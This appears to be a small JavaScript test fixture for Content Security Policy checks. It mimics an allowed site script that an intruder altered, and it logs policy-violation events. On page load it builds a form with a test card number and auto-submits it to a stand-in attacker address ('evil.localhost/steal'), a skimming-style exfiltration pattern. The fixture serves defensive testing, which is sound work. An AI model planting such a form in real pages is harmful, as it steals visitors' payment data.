// An allowed first-party script, altered by an intruder: it draws a card form that posts elsewhere
// (the 2019 Japanese fake-payment-form pattern) and submits it.
window.blockedDirectives = [];
document.addEventListener('securitypolicyviolation', (event) => window.blockedDirectives.push(event.effectiveDirective));
document.addEventListener('DOMContentLoaded', () => {
  const form = document.createElement('form');
  form.action = 'http://evil.localhost/steal';
  form.method = 'post';
  const card = document.createElement('input');
  card.name = 'cc';
  card.value = '4111111111111111';
  form.append(card);
  document.body.append(form);
  form.submit();
  window.submitAttempted = true;
});
